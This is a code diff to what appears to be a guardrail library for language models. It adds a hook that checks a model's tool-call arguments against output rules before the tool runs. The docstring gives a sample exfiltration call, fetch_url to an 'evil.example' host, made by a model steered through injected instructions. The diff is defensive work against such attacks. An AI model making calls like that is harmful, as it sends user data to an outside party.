@@ -24,8 +24,8 @@ import threading
 from collections.abc import Mapping
 from typing import Any
 
-from guardfn.call import Call, Finding, Response
-from guardfn.errors import ConfigurationError
+from guardfn.call import Call, Finding, Response, ToolRequest
+from guardfn.errors import ConfigurationError, GuardrailViolation
 from guardfn.hookspecs import hookimpl
 from guardfn.output.config import config_of
 from guardfn.output.rules import (
@@ -222,6 +222,41 @@ def _check(call: Call, response: Response, rules: list[Any]) -> None:
         if parsed is not response.parsed:
             response.parsed = parsed
             call.record_change(NAME, "response.parsed", 1)
+
+
+@hookimpl
+def guardfn_check_tool_call(call: Call, request: ToolRequest) -> Any:
+    """Runs for each tool call before it runs: the rules judge every string of its arguments
+    (PII already restored), so a model steered into ``fetch_url("https://evil.example/?q=...")``
+    is refused with ``GuardrailViolation`` before the tool sees it. An argument cannot be
+    redacted into something meaningful, so ``on_violation="redact"`` refuses too; ``"flag"``
+    records the finding and lets the tool run."""
+    rules = [r for r in rules_for_call(call) if getattr(r, "fields", True)]
+    if not rules or not request.arguments:
+        return None
+    if _needs_suffix_list(call, rules):
+        return _after_loading_suffix_list(_check_arguments, call, request, rules)
+    _check_arguments(call, request, rules)
+    return None
+
+
+def _check_arguments(call: Call, request: ToolRequest, rules: list[Any]) -> None:
+    counts: dict[str, int] = {}
+    for value in iter_strings(request.arguments):
+        for violation in check_rules(rules, value):
+            counts[violation.rule] = counts.get(violation.rule, 0) + 1
+    if not counts:
+        return
+    mode = "flag" if call.settings.on_violation == "flag" else "raise"
+    record_counts(call, counts, mode)
+    if mode == "raise":
+        raise GuardrailViolation(
+            f"the arguments of a call of tool {request.tool_call.name!r} broke output rule(s): "
+            f"{', '.join(sorted(counts))}; the tool was not run",
+            rules=sorted(counts),
+            stage=NAME,
+            hint="check the prompt and tool results for injected instructions, or use on_violation='flag'",
+        )
 
 
 @hookimpl
